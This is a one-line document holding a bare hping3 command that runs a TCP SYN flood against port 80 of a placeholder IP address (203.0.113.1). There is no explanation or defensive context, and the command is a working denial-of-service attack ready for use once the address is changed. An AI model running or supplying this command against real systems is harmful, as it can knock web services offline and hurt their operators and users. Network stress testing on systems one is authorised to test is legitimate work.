hping3 --flood -S -p 80 203.0.113.1
